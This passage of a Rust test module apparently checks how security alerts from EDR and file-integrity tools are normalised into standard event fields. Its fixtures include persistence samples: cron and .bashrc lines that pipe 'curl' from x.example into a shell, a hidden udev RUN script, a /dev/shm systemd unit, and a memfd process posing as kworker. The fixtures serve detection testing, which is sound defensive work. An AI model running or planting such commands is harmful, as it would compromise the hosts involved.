                "NETWORK_ACTIVITY": [{"DESTINATION": {"IP_ADDRESS": "198.51.100.7", "PORT": 8443}}]},
                "routing": {"hostname": "mbp-1", "event_type": "NEW_PROCESS"}}});
        let (e, id) = limacharlie(d.as_object().unwrap()).unwrap();
        assert_eq!(id.as_deref(), Some("d-1"));
        assert_eq!(str_at(&e, "process.executable"), "/usr/bin/security");
        assert_eq!(
            str_at(&e, "process.parent.command_line"),
            "/bin/bash /Users/lk/.cs/u.sh"
        );
        assert_eq!(str_at(&e, "process.parent.parent.name"), "osascript");
        assert_eq!(str_at(&e, "user.name"), "lk");
        assert_eq!(str_at(&e, "user.id"), "501");
        // The platform from the envelope's routing when the detection's own omits it.
        assert_eq!(str_at(&e, "host.os.type"), "macos");
        assert_eq!(str_at(&e, "host.ip"), "10.4.4.4");
        assert_eq!(str_at(&e, "destination.ip"), "198.51.100.7");
        assert_eq!(str_at(&e, "rule.name"), "Keychain access by script");
        assert_eq!(e["threat"]["technique"]["id"], json!(["T1555.001"]));
        assert!(
            limacharlie(
                json!({"detect": {"event": {"X": 1}}, "routing": {"event_type": "NEW_PROCESS"}})
                    .as_object()
                    .unwrap()
            )
            .is_none()
        );
    }

    #[test]
    fn carbon_black_edr_forwarder_events() {
        let a = json!({
            "type": "ingress.event.procstart", "computer_name": "jenkins-agent-04",
            "command_line": "/bin/sh -xe /tmp/jenkins84.sh", "path": "/usr/bin/dash",
            "parent_path": "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "parent_pid": 2876,
            "pid": 28442, "process_guid": "09c2", "username": "jenkins", "uid": "1002",
            "md5": "EBFF23F80CD0CB0EF49E981FC8752D56", "timestamp": 1747045656.45
        });
        let (e, id) = carbon_black_edr(a.as_object().unwrap()).unwrap();
        assert_eq!(id.as_deref(), Some("09c2"));
        assert_eq!(str_at(&e, "process.name"), "dash");
        assert_eq!(str_at(&e, "process.parent.name"), "java");
        assert_eq!(
            str_at(&e, "process.hash.md5"),
            "ebff23f80cd0cb0ef49e981fc8752d56"
        );
        assert_eq!(str_at(&e, "user.name"), "jenkins");
        assert_eq!(str_at(&e, "host.name"), "jenkins-agent-04");
        assert_eq!(str_at(&e, "@timestamp"), "2025-05-12T10:27:36.450+00:00");
        let n = json!({"type": "ingress.event.netconn", "computer_name": "h", "process_path": "c:\\windows\\system32\\cmd.exe",
                       "remote_ip": "203.0.113.4", "remote_port": 8080, "domain": "bad.example"});
        let (e, _) = carbon_black_edr(n.as_object().unwrap()).unwrap();
        assert_eq!(str_at(&e, "destination.ip"), "203.0.113.4");
        assert_eq!(str_at(&e, "destination.domain"), "bad.example");
        assert_eq!(get(&e, "event.category"), Some(&json!(["network"])));
        assert!(
            carbon_black_edr(
                json!({"type": "alert", "computer_name": "h"})
                    .as_object()
                    .unwrap()
            )
            .is_none()
        );
    }
    #[test]
    fn tracee_signature_takes_the_triggering_execution() {
        let a = json!({
            "timestamp": 1752071829441028861u64, "processId": 61, "parentProcessId": 58, "userId": 1000,
            "processName": "3", "hostName": "gke-node-1", "eventName": "fileless_execution",
            "container": {"id": "f94e", "name": "worker", "image": "acme/worker:3.11"},
            "kubernetes": {"podName": "worker-7d9", "podNamespace": "apps"},
            "args": [{"name": "triggeredBy", "value": {"name": "sched_process_exec", "args": [
                {"name": "cmdpath", "value": "/proc/self/fd/3"},
                {"name": "pathname", "value": "memfd:kworker (deleted)"},
                {"name": "argv", "value": ["[kworker/u8:2-events_unbound]"]}]}}],
            "metadata": {"Properties": {"signatureName": "Fileless Execution", "external_id": "T1620"}}
        });
        let (e, _) = tracee(a.as_object().unwrap()).unwrap();
        assert_eq!(str_at(&e, "process.executable"), "memfd:kworker");
        assert_eq!(
            str_at(&e, "process.command_line"),
            "[kworker/u8:2-events_unbound]"
        );
        assert_eq!(str_at(&e, "user.id"), "1000");
        assert_eq!(str_at(&e, "container.image.name"), "acme/worker:3.11");
        assert_eq!(str_at(&e, "orchestrator.namespace"), "apps");
        assert_eq!(str_at(&e, "rule.name"), "Fileless Execution");
        assert_eq!(get(&e, "threat.technique.id"), Some(&json!(["T1620"])));
        assert_eq!(
            str_at(&e, "@timestamp"),
            "2025-07-09T14:37:09.441028861+00:00"
        );
        // A plain exec event.
        let x = json!({"processName": "sh", "hostName": "n", "eventName": "sched_process_exec", "userId": 0,
            "args": [{"name": "pathname", "value": "/bin/sh"}, {"name": "argv", "value": ["sh", "-c", "id; uname -a"]}]});
        let (e, _) = tracee(x.as_object().unwrap()).unwrap();
        assert_eq!(str_at(&e, "process.command_line"), "sh -c 'id; uname -a'");
        assert_eq!(str_at(&e, "user.name"), "root");
    }
    #[test]
    fn wazuh_file_integrity_of_autorun_files_is_the_command_they_run() {
        let a = json!({"id": "1730.9", "agent": {"name": "db-2"}, "rule": {"description": "File added to the system."},
            "syscheck": {"path": "/etc/udev/rules.d/75-usb.rules", "event": "added",
                "diff": "0a1,2\n> # helper\n> ACTION==\"add\", KERNEL==\"random\", RUN+=\"/bin/sh -c '/usr/bin/at -M now -f /usr/lib/udev/.cache/x.sh'\"\n",
                "audit": {"login_user": {"name": "opsadmin"}, "process": {"name": "/usr/bin/tee"}}}});
        let (e, id) = wazuh_syscheck(a.as_object().unwrap()).unwrap();
        assert_eq!(id.as_deref(), Some("1730.9"));
        assert_eq!(
            str_at(&e, "process.command_line"),
            "/bin/sh -c '/usr/bin/at -M now -f /usr/lib/udev/.cache/x.sh'"
        );
        assert_eq!(str_at(&e, "process.name"), "sh");
        assert_eq!(str_at(&e, "process.parent.name"), "systemd-udevd");
        assert_eq!(str_at(&e, "process.parent.parent.name"), "tee");
        assert_eq!(str_at(&e, "user.name"), "root");
        assert_eq!(str_at(&e, "file.path"), "/etc/udev/rules.d/75-usb.rules");
        assert_eq!(str_at(&e, "host.name"), "db-2");
        // A system crontab line runs as its user; a user's crontab as its owner.
        let c = json!({"syscheck": {"path": "/etc/cron.d/sync", "diff": "> */5 * * * * root curl -s http://x.example/a | sh\n"}});
        let (e, _) = wazuh_syscheck(c.as_object().unwrap()).unwrap();
        assert_eq!(
            str_at(&e, "process.command_line"),
            "/bin/sh -c curl -s http://x.example/a | sh"
        );
        assert_eq!(str_at(&e, "user.name"), "root");
        let u = json!({"syscheck": {"path": "/var/spool/cron/crontabs/www-data", "diff": "+@reboot /tmp/.x/run\n"}});
        let (e, _) = wazuh_syscheck(u.as_object().unwrap()).unwrap();
        assert_eq!(str_at(&e, "process.command_line"), "/bin/sh -c /tmp/.x/run");
        assert_eq!(str_at(&e, "user.name"), "www-data");
        // A systemd unit's ExecStart, as its User.
        let sd = json!({"syscheck": {"path": "/etc/systemd/system/upd.service", "diff": "> [Service]\n> User=nobody\n> ExecStart=/dev/shm/.u -c 1\n"}});
        let (e, _) = wazuh_syscheck(sd.as_object().unwrap()).unwrap();
        assert_eq!(str_at(&e, "process.command_line"), "/dev/shm/.u -c 1");
        assert_eq!(str_at(&e, "user.name"), "nobody");
        // A shell startup file: the added lines, as the home's owner.
        let rc = json!({"syscheck": {"path": "/home/ann/.bashrc", "diff": "> alias ll='ls -l'\n> (curl -s http://x.example/k | bash &) 2>/dev/null\n"}});
        let (e, _) = wazuh_syscheck(rc.as_object().unwrap()).unwrap();
        assert!(str_at(&e, "process.command_line").contains("curl -s http://x.example/k | bash"));
        assert_eq!(str_at(&e, "user.name"), "ann");
        // Any other file, or no diff: not a process event.
        let other = json!({"syscheck": {"path": "/etc/hosts", "diff": "> 10.0.0.1 a\n"}});
        assert!(wazuh_syscheck(other.as_object().unwrap()).is_none());
        let nodiff = json!({"syscheck": {"path": "/etc/cron.d/x"}});
        assert!(wazuh_syscheck(nodiff.as_object().unwrap()).is_none());
    }
}
